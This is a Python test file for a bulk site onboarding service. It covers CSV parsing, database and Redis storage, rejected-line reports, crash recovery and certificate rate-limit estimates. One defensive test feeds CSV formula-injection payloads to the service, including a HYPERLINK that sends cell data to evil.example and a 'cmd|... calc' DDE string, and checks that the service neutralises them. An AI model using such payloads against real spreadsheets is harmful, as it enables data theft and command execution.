"""Bulk onboarding's service, on real SQLite and PostgreSQL stores and a real Redis."""

from __future__ import annotations

import csv
import io
from collections import Counter
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import redis
from sqlalchemy import Engine, func, select

from pipeline.acme.ratelimit import Limits
from pipeline.crypto.signing import SigningKey
from pipeline.db import get_engine
from pipeline.distribution.layout import SiteRecord
from pipeline.fleet.onboarding import (
    MAX_FIELD,
    Line,
    Onboarding,
    Options,
    RejectedWriter,
    Summary,
    estimate,
    format_duration,
    heal_snapshot,
    publish_records,
    read_lines,
)
from pipeline.fleet.sites import add_site, parse_site
from pipeline.models import Site, SiteName, SiteState
from pipeline.setting_values import parse_rate
from tests.support.from_settings import session_scope, site_rules

PREFIX = "certman"
SIGNER = SigningKey.generate()


@pytest.fixture
def engine(certman_env: dict[str, str], database_url: str) -> Engine:
    return get_engine(database_url)


def lines(text: str) -> list[Line]:
    return list(read_lines(io.StringIO(text)))


def onboard(
    engine: Engine,
    text: str,
    *,
    client: redis.Redis | None = None,
    rejected: Path | None = None,
    kicks: list[int] | None = None,
    **options: object,
) -> Summary:
    writer = RejectedWriter(rejected)
    run = Onboarding(
        engine,
        Options(**options, rules=site_rules()),  # type: ignore[arg-type]
        publish_batch=(lambda sites: publish_records(client, PREFIX, sites, SIGNER))
        if client
        else None,
        publish_existing=(lambda domains: heal_snapshot(engine, client, PREFIX, domains, SIGNER))
        if client
        else None,
        kick=(lambda: kicks.append(1)) if kicks is not None else None,
        rejected=writer,
    )
    try:
        return run.run(read_lines(io.StringIO(text)))
    finally:
        writer.close()


def stored(url: str) -> dict[str, list[str]]:
    with session_scope(url) as session:
        rows = session.execute(
            select(Site.domain, SiteName.name).join(SiteName).order_by(SiteName.id)
        ).all()
    out: dict[str, list[str]] = {}
    for domain, name in rows:
        out.setdefault(domain, []).append(name)
    return out


def count_sites(url: str) -> int:
    with session_scope(url) as session:
        return int(session.scalar(select(func.count()).select_from(Site)) or 0)


# --- reading -------------------------------------------------------------------------------------
def test_header_is_detected_only_on_the_first_row() -> None:
    with_header = lines("domain,upstream,aliases\na.example.com\n")
    assert [line.cells for line in with_header] == [("a.example.com",)]
    assert with_header[0].number == 2
    without = lines("a.example.com,http://10.0.0.1\n\n# a comment\nb.example.com\n")
    assert [(line.number, line.cells[0]) for line in without] == [
        (1, "a.example.com"),
        (4, "b.example.com"),
    ]
    # "domain" later in the file is a line like any other (and an invalid one).
    assert [line.cells for line in lines("a.example.com\ndomain\n")][1] == ("domain",)


def test_quoted_cells_and_crlf() -> None:
    parsed = lines(
        '"a.example.com","http://10.0.0.1:8080","www.a.example.com  shop.a.example.com"\r\n'
    )
    assert parsed[0].cells == (
        "a.example.com",
        "http://10.0.0.1:8080",
        "www.a.example.com  shop.a.example.com",
    )
    assert parsed[0].text.endswith('shop.a.example.com"')


# --- writing -------------------------------------------------------------------------------------
def test_sites_and_aliases_are_stored_pending_and_published(
    engine: Engine, database_url: str, redis_client: redis.Redis
) -> None:
    before = datetime.now(UTC)
    kicks: list[int] = []
    summary = onboard(
        engine,
        "domain,upstream,aliases\n"
        "Alpha.example.com,http://10.0.0.1:8080/,www.alpha.example.com\n"
        "beta.example.org,,www.beta.example.org shop.beta.example.org\n"
        "gamma.example.net\n",
        client=redis_client,
        kicks=kicks,
        batch_size=2,
        upstream_default="http://10.9.9.9",
    )
    assert (summary.read, summary.added, summary.batches) == (3, 3, 2)
    assert kicks == [1, 1]  # once per committed batch
    assert stored(database_url) == {
        "alpha.example.com": ["alpha.example.com", "www.alpha.example.com"],
        "beta.example.org": ["beta.example.org", "www.beta.example.org", "shop.beta.example.org"],
        "gamma.example.net": ["gamma.example.net"],
    }
    with session_scope(database_url) as session:
        sites = {s.domain: s for s in session.scalars(select(Site))}
    assert {s.state for s in sites.values()} == {SiteState.PENDING}
    assert sites["alpha.example.com"].upstream == "http://10.0.0.1:8080"
    assert sites["gamma.example.net"].upstream == "http://10.9.9.9"
    for site in sites.values():
        assert site.next_attempt_at is not None
        assert before <= site.next_attempt_at <= datetime.now(UTC)
    # The edges can proxy them in plain HTTP already: every name is in the snapshot.
    names = {k.decode(): v.decode() for k, v in redis_client.hgetall(f"{PREFIX}:names").items()}
    assert names["shop.beta.example.org"] == "beta.example.org"
    assert len(names) == 6
    blob = redis_client.hget(f"{PREFIX}:sites", "beta.example.org")
    assert blob is not None
    record = SiteRecord.from_json(blob)
    assert record.upstream == "http://10.9.9.9" and record.chain_pem is None


def test_rejected_lines_are_written_with_line_number_and_reason(
    engine: Engine, database_url: str, tmp_path: Path
) -> None:
    with session_scope(database_url) as session:
        add_site(
            session, parse_site("owned.example.com", ["www.owned.example.com"], rules=site_rules())
        )
    text = (
        "domain,upstream\n"
        "good.example.com\n"
        "not a domain\n"
        "*.wild.example.com\n"
        "bad-upstream.example.com,ftp://10.0.0.1\n"
        "a.example.com,http://x,www.a.example.com,extra\n"
        "www.owned.example.com\n"
        "other.example.com,,www.owned.example.com\n"
        "owned.example.com\n"
        "good.example.com,,www.good.example.com\n"
        "second.example.com,,www.good.example.com\n"  # free: line 10 was rejected
    )
    rejected = tmp_path / "in.csv.rejected.csv"
    # One line per batch: each line is checked against the store before the next is read (in a
    # bigger batch, line 8 would be rejected for sharing a name with line 7 instead).
    summary = onboard(engine, text, rejected=rejected, batch_size=1)
    assert (summary.read, summary.added, summary.rejected) == (10, 2, 8)
    with rejected.open(newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["line", "content", "reason"]
    reasons = {int(row[0]): (row[1], row[2]) for row in rows[1:]}
    assert sorted(reasons) == [3, 4, 5, 6, 7, 8, 9, 10]
    assert "not a valid domain name" in reasons[3][1]
    assert "wildcards are not supported" in reasons[4][1]
    assert reasons[5] == ("bad-upstream.example.com,ftp://10.0.0.1", reasons[5][1])
    assert "must be an http:// or https:// URL" in reasons[5][1]
    assert "4 columns" in reasons[6][1]
    assert reasons[7][1] == "www.owned.example.com already belongs to site owned.example.com"
    assert reasons[8][1] == "www.owned.example.com already belongs to site owned.example.com"
    assert reasons[9][1].startswith("owned.example.com exists with names owned.example.com, www.")
    assert reasons[10][1] == "good.example.com is already on line 2 with other names"
    assert set(stored(database_url)) == {
        "owned.example.com",
        "good.example.com",
        "second.example.com",
    }


def test_a_clean_run_removes_a_stale_rejected_file(engine: Engine, tmp_path: Path) -> None:
    rejected = tmp_path / "in.csv.rejected.csv"
    rejected.write_text("line,content,reason\n1,x,old\n")
    onboard(engine, "fine.example.com\n", rejected=rejected)
    assert not rejected.exists()


def test_duplicates_within_the_file_are_counted_across_batches(
    engine: Engine, database_url: str
) -> None:
    text = (
        "a.example.com,,www.a.example.com\n"
        "b.example.com\n"
        "A.EXAMPLE.COM.,,www.a.example.com\n"  # the same site, written differently
        "b.example.com\n"
        "a.example.com,,www.a.example.com\n"
    )
    summary = onboard(engine, text, batch_size=1)
    assert (summary.added, summary.duplicates, summary.rejected) == (2, 3, 0)
    assert count_sites(database_url) == 2


def test_second_run_adds_nothing(
    engine: Engine, database_url: str, redis_client: redis.Redis
) -> None:
    text = "".join(f"site{i}.example.com,,www.site{i}.example.com\n" for i in range(25))
    first = onboard(engine, text, client=redis_client, batch_size=10)
    kicks: list[int] = []
    second = onboard(engine, text, client=redis_client, batch_size=10, kicks=kicks)
    assert (first.added, first.already) == (25, 0)
    assert (second.added, second.already, second.rejected) == (0, 25, 0)
    assert kicks == []  # nothing new: nobody to wake
    assert count_sites(database_url) == 25


class Killed(Exception):
    pass


def test_run_interrupted_between_batches_then_resumed(
    engine: Engine, database_url: str, redis_client: redis.Redis
) -> None:
    text = "".join(f"site{i}.example.com,,www.site{i}.example.com\n" for i in range(50))
    published: list[int] = []

    def publish_then_die(sites: object) -> None:
        # The third batch is committed, then the process "dies" before publishing it.
        published.append(1)
        if len(published) == 3:
            raise Killed
        publish_records(redis_client, PREFIX, sites, SIGNER)  # type: ignore[arg-type]

    run = Onboarding(
        engine, Options(batch_size=10, rules=site_rules()), publish_batch=publish_then_die
    )
    with pytest.raises(Killed):
        run.run(read_lines(io.StringIO(text)))
    assert count_sites(database_url) == 30
    assert redis_client.hlen(f"{PREFIX}:sites") == 20

    resumed = onboard(engine, text, client=redis_client, batch_size=10)
    assert (resumed.added, resumed.already) == (20, 30)
    assert count_sites(database_url) == 50
    with session_scope(database_url) as session:
        assert session.scalar(select(func.count()).select_from(SiteName)) == 100
    # The committed-but-unpublished batch was healed into the snapshot by the re-run.
    assert redis_client.hlen(f"{PREFIX}:sites") == 50
    assert redis_client.hlen(f"{PREFIX}:names") == 100


def test_exception_inside_a_batch_leaves_nothing_half_written(
    engine: Engine, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pipeline.fleet import onboarding

    calls = {"n": 0}
    real = onboarding.Onboarding._insert

    def insert_then_fail(self: onboarding.Onboarding, connection: object, fresh: list) -> bool:
        calls["n"] += 1
        ok = real(self, connection, fresh)  # type: ignore[arg-type]
        if calls["n"] == 2:
            raise Killed  # after both INSERTs, before the commit
        return ok

    monkeypatch.setattr(onboarding.Onboarding, "_insert", insert_then_fail)
    text = "".join(f"site{i}.example.com,,www.site{i}.example.com\n" for i in range(20))
    with pytest.raises(Killed):
        onboard(engine, text, batch_size=10)
    assert count_sites(database_url) == 10
    with session_scope(database_url) as session:
        assert session.scalar(select(func.count()).select_from(SiteName)) == 20
    monkeypatch.setattr(onboarding.Onboarding, "_insert", real)
    assert onboard(engine, text, batch_size=10).added == 10


def test_a_name_taken_by_a_concurrent_writer_rolls_the_batch_back_and_rechecks(
    engine: Engine, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pipeline.fleet import onboarding

    real = onboarding.Onboarding._classify
    raced = {"done": False}

    def classify_then_race(self: onboarding.Onboarding, connection: object, batch: list) -> object:
        result = real(self, connection, batch)  # type: ignore[arg-type]
        if not raced["done"]:
            raced["done"] = True
            # Another writer adds a site with one of the batch's aliases after our check.
            with session_scope(database_url) as session:
                add_site(
                    session,
                    parse_site("racer.example.com", ["www.b.example.com"], rules=site_rules()),
                )
        return result

    monkeypatch.setattr(onboarding.Onboarding, "_classify", classify_then_race)
    summary = onboard(engine, "a.example.com\nb.example.com,,www.b.example.com\n")
    assert (summary.added, summary.rejected) == (1, 1)
    assert stored(database_url) == {
        "racer.example.com": ["racer.example.com", "www.b.example.com"],
        "a.example.com": ["a.example.com"],
    }


def test_dry_run_writes_nothing(
    engine: Engine, database_url: str, redis_client: redis.Redis, tmp_path: Path
) -> None:
    with session_scope(database_url) as session:
        add_site(session, parse_site("there.example.com", rules=site_rules()))
    kicks: list[int] = []
    summary = onboard(
        engine,
        "there.example.com\nnew.example.com\nnew.example.com\nbad name\n",
        client=redis_client,
        kicks=kicks,
        dry_run=True,
    )
    assert (summary.added, summary.already, summary.duplicates, summary.rejected) == (1, 1, 1, 1)
    assert set(stored(database_url)) == {"there.example.com"}
    assert kicks == [] and redis_client.dbsize() == 0


def test_priority_goes_ahead_of_everything_waiting(engine: Engine, database_url: str) -> None:
    early = datetime.now(UTC) - timedelta(hours=2)
    with session_scope(database_url) as session:
        site, _ = add_site(
            session, parse_site("waiting.example.com", rules=site_rules()), now=early
        )
    onboard(engine, "later.example.com\n")
    onboard(engine, "urgent.example.com\n", priority=True)
    with session_scope(database_url) as session:
        due = dict(session.execute(select(Site.domain, Site.next_attempt_at)).tuples().all())
    assert due["urgent.example.com"] < due["waiting.example.com"] < due["later.example.com"]


# --- the estimate --------------------------------------------------------------------------------
def limits(new_orders: str = "300/3h", per_domain: str = "50/7d", enabled: bool = True) -> Limits:
    base = Limits.production()
    return Limits(
        **{
            **base.__dict__,
            "new_orders": parse_rate(new_orders),
            "certs_per_domain": parse_rate(per_domain),
            "enabled": enabled,
        }
    )


def test_estimate_account_bound() -> None:
    now = datetime(2026, 1, 1, tzinfo=UTC)
    # 1,000 sites on distinct domains: 300 at once, then one every 36 s for the other 700.
    result = estimate(1000, Counter({f"d{i}.example": 1 for i in range(1000)}), limits(), now=now)
    assert result.account_seconds == pytest.approx(700 * 36)
    assert result.domain_seconds == 0
    assert result.seconds == pytest.approx(25_200)
    assert result.finish_at == now + timedelta(seconds=25_200)
    assert "7 h" in result.describe() and "per-account" in result.describe()


def test_estimate_domain_bound_wins() -> None:
    # 120 sites under one registered domain: 50 at once, then one every 7d/50 = 3.36 h.
    result = estimate(120, Counter({"example.com": 120}), limits())
    assert result.domain_seconds == pytest.approx(70 * 7 * 86400 / 50)
    assert result.seconds == result.domain_seconds
    assert result.busiest_domain == "example.com"
    assert "per-domain certificates (example.com)" in result.describe()


def test_estimate_within_burst_and_lifted() -> None:
    assert estimate(10, Counter({"example.com": 10}), limits()).seconds == 0
    assert "burst" in estimate(10, Counter({"example.com": 10}), limits()).describe()
    lifted = estimate(10_000, Counter({"example.com": 10_000}), limits(enabled=False))
    assert lifted.seconds is None and "limits lifted" in lifted.describe()
    assert estimate(0, Counter(), limits()).describe() == "nothing new to issue"


def test_format_duration() -> None:
    assert format_duration(30) == "under a minute"
    assert format_duration(61) == "2 min"
    assert format_duration(3 * 3600 + 60) == "3 h 1 min"
    assert format_duration(2 * 86400 + 5 * 3600 + 1) == "2 d 5 h"


def test_per_domain_counts_follow_registered_domains(engine: Engine) -> None:
    summary = onboard(
        engine,
        "a.example.co.uk,,www.a.example.co.uk\nb.example.co.uk\nc.example.com,,c.example.net\n",
    )
    assert summary.per_domain == Counter({"example.co.uk": 2, "example.com": 1, "example.net": 1})


def test_a_batch_is_published_signed_above_what_redis_holds(
    engine: Engine, database_url: str, redis_client: redis.Redis
) -> None:
    from cryptography.hazmat.primitives.asymmetric import ed25519

    from pipeline.crypto.signing import SignedSite, TrustedSigners, next_version

    # A statement already there at a version above the clock (published before by a host whose
    # clock runs ahead): the batch must sign above it, not be refused by the script.
    ahead = SignedSite("alpha.example.com", next_version(None) + 1000 * 10**6)
    redis_client.hset(f"{PREFIX}:signed", "alpha.example.com", SIGNER.sign_site(ahead).to_json())
    onboard(engine, "alpha.example.com\nbeta.example.com\n", client=redis_client)
    trusted = TrustedSigners.of([ed25519.Ed25519PublicKey.from_public_bytes(SIGNER.public_bytes)])
    for domain in ("alpha.example.com", "beta.example.com"):
        raw = redis_client.hget(f"{PREFIX}:signed", domain)
        assert raw is not None
        statement = SignedSite.from_json(raw)
        trusted.verify_site(statement)
        assert not statement.removed and statement.names == (domain,)
        record = SiteRecord.from_json(redis_client.hget(f"{PREFIX}:sites", domain) or b"")
        assert record.signed == statement and record.matches(statement)
    alpha = SignedSite.from_json(redis_client.hget(f"{PREFIX}:signed", "alpha.example.com") or b"")
    assert alpha.version > ahead.version


def _rejected_rows(path: Path) -> dict[int, tuple[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["line", "content", "reason"]
    return {int(row[0]): (row[1], row[2]) for row in rows[1:]}


def test_the_rejected_file_is_safe_to_open_in_a_spreadsheet(engine: Engine, tmp_path: Path) -> None:
    text = (
        "fine.example.com\n"
        '=HYPERLINK("http://evil.example/?"&A1),http://10.0.0.1\n'
        "+1-555-0100\n"
        "-x.example.com\n"
        "@SUM(A1:A9)\n"
        "\"\tcmd|' /C calc'!A0\"\n"
        '"\r=1+1"\n'
    )
    rejected = tmp_path / "in.csv.rejected.csv"
    summary = onboard(engine, text, rejected=rejected)
    assert (summary.added, summary.rejected) == (1, 6)
    rows = _rejected_rows(rejected)
    assert sorted(rows) == [2, 3, 4, 5, 6, 7]
    for content, reason in rows.values():
        # OWASP: a cell a spreadsheet would evaluate starts with a quote instead.
        for cell in (content, reason):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[2][0] == '\'=HYPERLINK("http://evil.example/?"&A1),http://10.0.0.1'
    assert rows[3][0] == "'+1-555-0100"
    assert rows[4][0] == "'-x.example.com"
    assert rows[5][0] == "'@SUM(A1:A9)"
    # The file is otherwise the input: every cell quoted, the text kept after the quote.
    assert rejected.read_text(encoding="utf-8").splitlines()[0] == '"line","content","reason"'


@pytest.mark.parametrize("size", [MAX_FIELD + 1, 200 * 1024])
def test_an_overlong_field_rejects_its_line_and_the_run_goes_on(
    engine: Engine, database_url: str, tmp_path: Path, size: int
) -> None:
    # Over 128 KiB the csv module itself refuses the line (csv.Error); over MAX_FIELD we do.
    text = f"a.example.com\nb.example.com,http://10.0.0.1/{'x' * size}\nc.example.com\n"
    rejected = tmp_path / "in.csv.rejected.csv"
    summary = onboard(engine, text, rejected=rejected)
    assert (summary.read, summary.added, summary.rejected) == (3, 2, 1)
    assert set(stored(database_url)) == {"a.example.com", "c.example.com"}
    ((content, reason),) = _rejected_rows(rejected).values()
    assert list(_rejected_rows(rejected)) == [2]
    assert "\n" not in reason
    if size > 128 * 1024:
        assert reason == "not a CSV line (field larger than field limit (131072))"
    else:
        upstream = len("http://10.0.0.1/") + size
        assert reason == f"column 2 is {upstream:,} characters long; at most {MAX_FIELD:,}"
    # The line is quoted, not copied whole: enough to find it.
    assert content.startswith("b.example.com,http://10.0.0.1/xxx")
    assert content.endswith(f"({len(text.splitlines()[1]):,} characters in all)")
    assert len(content) < 1100


def test_a_line_csv_cannot_read_is_rejected_with_the_reason() -> None:
    # A bare carriage return inside a line (stdin is read with newline translation off).
    bad, good = list(read_lines(["a.example.com\rb,c\n", "d.example.com\n"]))
    assert (bad.number, good.number) == (1, 2)
    assert bad.problem is not None and bad.problem.startswith("not a CSV line (new-line")
    assert good.problem is None and good.cells == ("d.example.com",)
